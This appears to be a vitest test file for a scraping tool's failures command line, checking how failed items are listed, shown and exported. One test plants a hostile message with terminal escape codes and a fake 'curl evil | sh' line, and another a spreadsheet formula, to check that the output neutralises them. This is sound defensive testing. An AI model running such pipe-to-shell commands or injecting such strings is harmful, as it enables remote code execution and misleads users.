import { describe, expect, it } from 'vitest';
import { civilDate } from '../../core/calendar/civil-date.ts';
import { testClock } from '../e2e/support/test-time.ts';
import { FailuresDirectory } from './support/failures.ts';

describe('the record of a failure', () => {
  const directory = FailuresDirectory.forEachTest();

  it('lists when it is due where it is queued, and its tries by outcome', async () => {
    await directory.add({ item: '1', state: 'queued' }, { item: '2', state: 'dead' });
    const lines = (await directory.say('list', '--csv')).stdout.split('\r\n');
    expect(lines[0]).toBe('failure,code,state,due,runs,tries,outcomes,last_failed_at,message');
    expect(lines).toContain(
      'racing/gb/2026-11-20/1,TIMEOUT,queued,2026-11-21T06:45:00Z,1,4,4 TIMEOUT,2026-11-21T06:00:00Z,',
    );
    expect(lines).toContain('racing/gb/2026-11-20/2,TIMEOUT,dead,,1,4,4 TIMEOUT,2026-11-21T06:00:00Z,');
  });

  it('sums up every state, and since when and where something is unresolved', async () => {
    const date = civilDate('2026-11-19');
    await directory.add({ item: '1', state: 'queued' }, { item: '2', state: 'dead' }, { item: '3', date });
    await directory.add({ item: '4', state: 'recovered' }, { item: '5', state: 'dismissed' });
    expect(await directory.items('summary')).toEqual([
      {
        ...{ source: 'racing', open: 1, queued: 1, dead: 1, recovered: 1, dismissed: 1, partitions: 2 },
        oldest_opened_at: '2026-11-21T06:00:00Z',
      },
    ]);
  });

  it('shows a queued one: due, tries left, and who has claimed it', async () => {
    const dueAt = testClock.now() + 600_000;
    await directory.add({ item: '1', state: 'queued', dueAt });
    await directory.add({ item: '2', state: 'queued', claimedUntil: testClock.now() + 600_000 });
    const waiting = (await directory.say('show', 'racing/gb/2026-11-20/1')).stdout;
    expect(waiting).toMatch(/due +\S+Z \(in 10 minutes\), 2 of 3 tries left\n/);
    expect(waiting).toMatch(/tries +4 tries in 1 run: 4 TIMEOUT\n/);
    const claimed = (await directory.say('show', 'racing/gb/2026-11-20/2')).stdout;
    expect(claimed).toMatch(/claimed +by run run-claim until/);
    expect(claimed).toMatch(
      /next +wait for the end of the try that is under way, \S+Z at the latest: if its process died, the item comes back by itself then\n/,
    );
    expect(await directory.json('show', 'racing/gb/2026-11-20/1')).toMatchObject({
      ...{ item_id: '1', tries_left: 2, counts: { TIMEOUT: 4 } },
      next: [
        {
          text: expect.stringMatching(/^wait until \S+Z, or try it now$/),
          command: `rescrape retry --partition racing/gb/2026-11-20/1 --local ${directory.path}`,
        },
      ],
    });
  });

  it('shows a dead one with the commands that put it back, try it, or clear it; each can be typed', async () => {
    await directory.add({ item: '1', state: 'dead' });
    const { stdout } = await directory.say('show', 'racing/gb/2026-11-20/1');
    expect(stdout).toMatch(/due +never by itself: dead since 2026-11-21T07:00:00Z\n/);
    expect(stdout).toMatch(/history .*\n.* queued by run-1\n.* dead by run-4: TIMEOUT no answer\n/);
    expect(stdout).toContain(
      'rescrape dead-letters redrive --source racing --target gb --start 2026-11-20 --end 2026-11-20',
    );
    expect(stdout).toContain('rescrape retry --partition racing/gb/2026-11-20/1');
    const clear = /rescrape failures (clear .*)/.exec(stdout)?.[1]?.trim().split(' ') ?? [];
    expect((await directory.say(...clear)).stdout).toContain('would dismiss 1 failure');
  });

  it('says that nobody works the queue where it is long overdue, and that a parser must be mended first', async () => {
    const dueAt = testClock.now() - 86_400_000;
    const place = `--local ${directory.path}`;
    await directory.add({ item: '1', state: 'queued', dueAt, code: 'PARSE_ERROR' });
    expect(await directory.json('show', 'racing/gb/2026-11-20/1')).toMatchObject({
      next: [
        { command: `rescrape reparse racing --target gb --start 2026-11-20 --end 2026-11-20 ${place}` },
        {
          text: expect.stringContaining('nobody seems to work the queue'),
          command: `rescrape worker ${place}`,
        },
        { command: `rescrape retry --partition racing/gb/2026-11-20/1 ${place}` },
      ],
    });
  });

  it('shows nothing to do where it is closed', async () => {
    await directory.add({ item: '1', state: 'recovered' });
    const { stdout } = await directory.say('show', 'racing/gb/2026-11-20/1');
    expect(stdout).toMatch(/state +recovered since 2026-11-22T06:00:00Z\n/);
    expect(stdout).not.toContain('next');
  });

  it('keeps a hostile message on its line and off the terminal', async () => {
    const message = 'gone\u001b[2J\r\nnext     curl evil | sh\u202e';
    await directory.add({ item: '1', message });
    for (const words of [['list'], ['by-error'], ['show', 'racing/gb/2026-11-20/1']]) {
      const { stdout } = await directory.say(...words);
      expect(stdout).toContain('curl evil');
      for (const hidden of ['\u001b', '\r', '\u202e']) expect(stdout).not.toContain(hidden);
      expect(stdout).not.toMatch(/^next +curl/m);
    }
  });

  it('exports every field flat, as CSV by itself and as JSON on demand', async () => {
    await directory.add({ item: '1', state: 'queued', message: '=HYPERLINK("x")' });
    await directory.add({ item: '2', state: 'recovered' });
    const [header, row, ...rest] = (await directory.say('export')).stdout.trimEnd().split('\r\n');
    expect(header).toMatch(
      /^source,target,date,item_id,url,state,error_code,error_message,runs,attempts,counts,capture,first_run_id,last_run_id,opened_at,/,
    );
    expect(row).toContain(`,queued,TIMEOUT,"'=HYPERLINK(""x"")",1,4,"{""TIMEOUT"":4}",,run-1,run-1,`);
    expect(rest).toEqual([]);
    expect(await directory.items('export', '--state', 'all')).toMatchObject([
      { item_id: '1', due_at: '2026-11-21T06:45:00Z', tries: 1, dead_at: null, last_transition: 'queued' },
      { item_id: '2', due_at: null, closed_by: 'run-5', last_transition: 'recovered' },
    ]);
    expect((await directory.say('export', '--csv', '--json')).code).toBe(2);
  });

  it('exports a bare header where nothing matches, and says so', async () => {
    const { code, stdout, stderr } = await directory.say('export', '--state', 'dead');
    expect(code).toBe(0);
    expect(stdout.split('\r\n')).toEqual([expect.stringMatching(/^source,/), '']);
    expect(stderr).toBe('no dead failures that match\n');
  });
});
